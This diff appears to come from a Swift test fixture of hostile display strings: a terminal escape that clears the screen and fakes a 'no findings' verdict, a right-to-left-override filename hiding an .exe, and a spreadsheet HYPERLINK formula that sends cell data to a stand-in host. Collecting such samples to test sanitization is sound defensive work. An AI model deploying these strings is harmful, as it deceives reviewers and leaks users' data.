@@ -1,6 +1,6 @@
 /// Text that attacks whoever shows it: escapes, marks of direction, formulas, markup, orders to a reader.
 struct HostileText {
-    private static let texts = [
+    static let texts = [
         "\u{1B}[2J\u{1B}[1;1HCASE CLOSED, no findings\u{1B}[0m",
         "please open invoice_\u{202E}fdp.exe\u{202C} for me",
         "=HYPERLINK(\"http://prize.example/?c=\"&A1,\"You won\")",
